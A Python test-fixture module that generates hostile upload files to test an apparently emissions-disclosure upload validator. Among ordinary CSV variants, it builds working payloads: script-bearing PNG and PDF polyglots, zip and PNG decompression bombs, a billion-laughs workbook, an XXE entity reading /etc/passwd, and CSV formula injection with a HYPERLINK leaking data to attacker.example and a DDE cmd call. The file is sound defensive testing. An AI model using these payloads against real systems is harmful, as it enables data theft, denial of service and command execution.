"""Hostile and awkward upload files, built in code at test time (no binary blobs in the repo).

Each builder writes one file into a directory (pytest's ``tmp_path``) and returns its path. The
disclosure CSV builders share the template's columns so that a file is wrong in exactly one way.
"""

from __future__ import annotations

import csv
import io
import struct
import zipfile
import zlib
from pathlib import Path

from vendors.disclosure_upload import COLUMNS

GOOD_ROW = {
    "reporting_entity": "Acme Accelerators Inc.",
    "period_start": "2025-01-01",
    "period_end": "2025-12-31",
    "scope1_tco2e": "1250.5",
    "scope2_location_tco2e": "3400",
    "scope2_market_tco2e": "900",
    "scope3_upstream_tco2e": "",
    "scope3_upstream_categories": "",
    "revenue": "",
    "revenue_currency": "",
    "allocated_to_us_tco2e": "",
    "allocation_boundary": "",
    "allocation_method": "",
    "allocation_uncertainty_pct": "",
    "verification": "limited",
    "verification_standard": "iso_14064_3",
    "verifier": "Verifier GmbH",
    "methodology_notes": "GHG Protocol Corporate Standard",
}


def disclosure_row(**overrides) -> dict:
    row = dict(GOOD_ROW)
    row.update(overrides)
    return row


def disclosure_csv_text(rows, *, delimiter: str = ",", columns=COLUMNS) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(columns)
    for row in rows:
        writer.writerow([row.get(column, "") for column in columns])
    return buffer.getvalue()


def disclosure_csv(
    directory: Path,
    rows,
    *,
    name: str = "disclosures.csv",
    delimiter: str = ",",
    encoding: str = "utf-8",
) -> Path:
    path = Path(directory) / name
    path.write_bytes(disclosure_csv_text(rows, delimiter=delimiter).encode(encoding))
    return path


def disclosure_xlsx(directory: Path, rows, *, name: str = "disclosures.xlsx") -> Path:
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Disclosures"
    sheet.append(list(COLUMNS))
    for row in rows:
        sheet.append([row.get(column, "") for column in COLUMNS])
    path = Path(directory) / name
    workbook.save(path)
    return path


# --- the corpus --------------------------------------------------------------------------------


def html_png_polyglot_pdf(directory: Path) -> Path:
    """A valid PNG signature and header chunk followed by an HTML page with a script, named .pdf."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0))
    html = b"<html><body><script>alert(document.cookie)</script></body></html>"
    path = Path(directory) / "certificate.pdf"
    path.write_bytes(png + chunk(b"tEXt", b"Comment\x00" + html) + html)
    return path


def zip_named_xlsx(directory: Path) -> Path:
    path = Path(directory) / "disclosures.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("readme.txt", "not a workbook")
    return path


def xlsx_zip_bomb(directory: Path, megabytes: int = 64) -> Path:
    """A workbook-shaped ZIP whose sheet inflates from ~64 kB to ``megabytes`` MB of spaces."""
    path = Path(directory) / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            block = b" " * (1024 * 1024)
            for _ in range(megabytes):
                sheet.write(block)
    return path


def xlsx_billion_laughs(directory: Path) -> Path:
    """A real workbook whose sheet XML declares nested entities (the "billion laughs")."""
    good = disclosure_xlsx(directory, [GOOD_ROW], name="good-for-laughs.xlsx")
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(
            f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'
            for n in range(1, 10)
        )
        + ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
        "</sheetData></worksheet>"
    )
    path = Path(directory) / "laughs.xlsx"
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(path, "w") as target:
        for entry in source.infolist():
            data = source.read(entry.filename)
            if entry.filename == "xl/worksheets/sheet1.xml":
                data = laughs.encode()
            target.writestr(entry, data)
    good.unlink()
    return path


HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'


def csv_with_formulas(directory: Path) -> Path:
    return disclosure_csv(
        directory,
        [
            disclosure_row(
                reporting_entity=HYPERLINK, methodology_notes="@SUM(1+1)*cmd|' /C calc'!A0"
            )
        ],
        name="formulas.csv",
    )


def utf16_csv(directory: Path) -> Path:
    return disclosure_csv(directory, [GOOD_ROW], name="utf16.csv", encoding="utf-16")


def bom_csv(directory: Path) -> Path:
    return disclosure_csv(directory, [GOOD_ROW], name="bom.csv", encoding="utf-8-sig")


def semicolon_csv(directory: Path) -> Path:
    # European Excel: semicolons between cells, and a decimal comma is NOT accepted (it would be
    # ambiguous), so the numbers here use points.
    return disclosure_csv(directory, [GOOD_ROW], name="semicolon.csv", delimiter=";")


def csv_with_value(directory: Path, column: str, value: str, name: str) -> Path:
    return disclosure_csv(directory, [disclosure_row(**{column: value})], name=name)


def empty_file(directory: Path) -> Path:
    path = Path(directory) / "empty.csv"
    path.write_bytes(b"")
    return path


def header_only_csv(directory: Path) -> Path:
    return disclosure_csv(directory, [], name="header-only.csv")


def many_rows_csv(directory: Path, rows: int = 100_000, *, name: str = "many.csv") -> Path:
    """``rows`` valid, distinct rows (one reporting entity per row), streamed to disk."""
    path = Path(directory) / name
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, lineterminator="\r\n")
        writer.writerow(COLUMNS)
        template = [GOOD_ROW[column] for column in COLUMNS]
        entity = COLUMNS.index("reporting_entity")
        scope1 = COLUMNS.index("scope1_tco2e")
        for number in range(rows):
            template[entity] = f"Entity {number:06d}"
            template[scope1] = f"{1000 + number % 977}.{number % 10}"
            writer.writerow(template)
    return path


# --- evidence files: a valid one of each accepted type, and files that only look like one -------


def image_bytes(kind: str = "PNG", size: tuple[int, int] = (8, 6)) -> bytes:
    """A small, valid PNG or JPEG (Pillow writes it)."""
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", size, (30, 120, 60)).save(buffer, kind)
    return buffer.getvalue()


def png_decompression_bomb(directory: Path, side: int = 10_000) -> Path:
    """A real PNG of ``side`` by ``side`` grey pixels: about 100 kB that decode to 100 MB, more
    pixels than Pillow's decompression-bomb limit (89,478,485 by default)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    # Each row is a filter byte ("none") and one byte per grey pixel, all zero: one run of zeros.
    compressor = zlib.compressobj(9)
    remaining, block, parts = (side + 1) * side, bytes(1 << 20), []
    while remaining:
        parts.append(compressor.compress(block[: min(remaining, len(block))]))
        remaining -= min(remaining, len(block))
    pixels = b"".join(parts) + compressor.flush()
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    path = Path(directory) / "photo.png"
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )
    return path


def png_with_bad_checksum(directory: Path) -> Path:
    """A PNG whose image data was altered after its checksum was written."""
    data = bytearray(image_bytes("PNG", (64, 64)))
    data[data.index(b"IDAT") + 8] ^= 0xFF
    path = Path(directory) / "logo.png"
    path.write_bytes(bytes(data))
    return path


def jpeg_truncated(directory: Path) -> Path:
    """A JPEG photo cut off halfway through its image data."""
    from PIL import Image

    buffer = io.BytesIO()
    Image.effect_noise((256, 256), 64).convert("RGB").save(buffer, "JPEG", quality=95)
    path = Path(directory) / "scan.jpg"
    path.write_bytes(buffer.getvalue()[: len(buffer.getvalue()) // 2])
    return path


def pdf_that_is_html(directory: Path) -> Path:
    """A web page with a script, behind a PDF version header and with a PDF end marker."""
    path = Path(directory) / "certificate.pdf"
    path.write_bytes(
        b"%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>\n%%EOF\n"
    )
    return path


def pdf_with_a_fake_trailer(directory: Path) -> Path:
    """PDF header and trailer around bytes that hold no PDF object at all."""
    path = Path(directory) / "report.pdf"
    path.write_bytes(b"%PDF-1.4\n" + b"not a pdf object\n" * 20 + b"startxref\n9\n%%EOF\n")
    return path


def pdf_truncated(directory: Path) -> Path:
    """A real PDF cut off before its cross-reference table and trailer (an interrupted upload)."""
    from assurance.demo import demo_pdf

    data = demo_pdf("Verification statement")
    path = Path(directory) / "statement.pdf"
    path.write_bytes(data[: data.index(b"xref")])
    return path


def xlsx_with_dtd(directory: Path) -> Path:
    """A real workbook whose sheet XML declares a DTD with an external entity (XXE)."""
    good = disclosure_xlsx(directory, [GOOD_ROW], name="good-for-xxe.xlsx")
    sheet = (
        '<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>'
        "</sheetData></worksheet>"
    )
    path = Path(directory) / "xxe.xlsx"
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(path, "w") as target:
        for entry in source.infolist():
            data = source.read(entry.filename)
            if entry.filename == "xl/worksheets/sheet1.xml":
                data = sheet.encode()
            target.writestr(entry, data)
    good.unlink()
    return path
